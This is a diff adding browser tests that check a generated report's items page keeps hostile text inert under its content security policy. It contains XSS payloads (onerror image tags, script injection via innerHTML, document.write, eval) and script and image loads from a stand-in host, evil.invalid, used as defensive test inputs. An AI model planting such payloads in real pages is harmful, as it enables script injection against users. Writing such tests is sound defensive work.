@@ -14,15 +14,45 @@ from tests.browser.hostile import EVIL, PAYLOADS, names, replies
 from tests.browser.watched import Watched
 
 HOSTILE = pytest.mark.parametrize("report", ["hostile"], indirect=True)
+REPLIES = pytest.mark.parametrize("report", ["hostile_replies"], indirect=True)
 EITHER = pytest.mark.parametrize("report", ["hostile", "hostile_replies"], indirect=True)
 # What our own templates and figures are made of: an element of another kind came out of a text.
 _OWN = """
 html head meta title style script body main header footer nav section article aside div span p a ul ol li dl dt dd h1 h2
 h3 h4 strong em b small abbr code pre kbd table caption colgroup col thead tbody tfoot tr th td details summary figure
-figcaption button input select option optgroup label fieldset legend output time mark ins del br hr template svg g path
-rect circle line polyline polygon text tspan title desc defs use clippath
+figcaption dialog noscript form button input select option optgroup label fieldset legend output time mark ins del br hr
+template svg g path rect circle line polyline polygon text tspan title desc defs use clippath
 """
 _BREAKS = "<>\"'|`*$={\n\0\u202e"
+_READ_ALL = """
+async () => {
+  const article = document.querySelector('article'), tags = new Set(), seen = new Set();
+  document.querySelector('select[name=kind]').value = '';
+  document.querySelector('.filters').dispatchEvent(new Event('input'));
+  let said = '';
+  for (let at = 0; at < 1100; at++) {
+    for (let wait = 0; wait < 400 && !article.dataset.ready; wait++) await new Promise(done => setTimeout(done, 5));
+    if (seen.has(article.dataset.ready)) break;
+    seen.add(article.dataset.ready);
+    article.querySelectorAll('*').forEach(one => tags.add(one.tagName.toLowerCase()));
+    if (at < 50) said += article.textContent;
+    document.querySelector('.list').dispatchEvent(new KeyboardEvent('keydown', {key: 'j', bubbles: true}));
+  }
+  return {items: seen.size, tags: [...tags], said};
+}
+"""
+_PUT_IN = """
+() => [
+  () => { document.querySelector('article').innerHTML = '<img src=x onerror=window.__pwned=1>'; },
+  () => document.querySelector('article').setHTMLUnsafe('<img src=x onerror=window.__pwned=1>'),
+  () => document.write('<script>window.__pwned=1</' + 'script>'),
+  () => document.body.append(document.createRange().createContextualFragment('<script>window.__pwned=1</' + 'script>')),
+  () => eval('window.__pwned=1'),
+  () => document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned=1'})),
+  () => document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.invalid/x.js'})),
+  () => document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.invalid/x.png'})),
+].filter(put => { try { put(); return false; } catch { return true; } }).length
+"""
 _ESCAPED = """
 <script>window.__pwned = 1</script><img src=x onerror=window.__pwned=1><img src=https://evil.invalid/x.png>
 <link rel=stylesheet href=https://evil.invalid/x.css><iframe src='javascript:parent.__pwned=1'></iframe>
@@ -51,6 +81,40 @@ def calm(watched: Watched) -> None:
     assert set(found["tags"]) <= set(_OWN.split())
     assert [one for one in found["attributes"] if one[0].startswith("on")] == []
     assert [one for one in found["attributes"] if one[0] in _LINKS and not _ours(one[1], folder)] == []
+
+
+@REPLIES
+def test_a_thousand_hostile_replies_stay_text_when_each_is_read(report: Path, opened: Opener) -> None:
+    watched = opened()
+    page = watched.open(report / "items.html")
+    page.locator(".row").first.wait_for()
+    read = page.evaluate(_READ_ALL)
+    assert read["items"] == 1000
+    assert set(read["tags"]) <= set(_OWN.split())
+    assert "window.__pwned=1" in read["said"]
+    calm(watched)
+
+
+@REPLIES
+@pytest.mark.parametrize("text", ["<img src=x onerror=window.__pwned=1>", "{{7*7}}", "</script>", "\u202e", "(", "\\"])
+def test_a_hostile_text_can_be_searched_for(report: Path, opened: Opener, text: str) -> None:
+    watched = opened()
+    page = watched.open(report / "items.html")
+    page.locator("input[name=text]").fill(text)
+    page.locator(".count", has_text=re.compile(r"shown(?!.*searching)")).wait_for()
+    calm(watched)
+
+
+@REPLIES
+def test_the_items_page_cannot_run_what_is_put_into_it(report: Path, opened: Opener) -> None:
+    """Its policy knows our script and what that loads, and no text can become markup there at all."""
+    watched = opened()
+    page = watched.open(report / "items.html")
+    page.locator(".row").first.wait_for()
+    assert page.evaluate(_PUT_IN) >= 4
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.__pwned") is None
+    watched.forgiven()
 
 
 def _ours(link: str, folder: Path) -> bool:
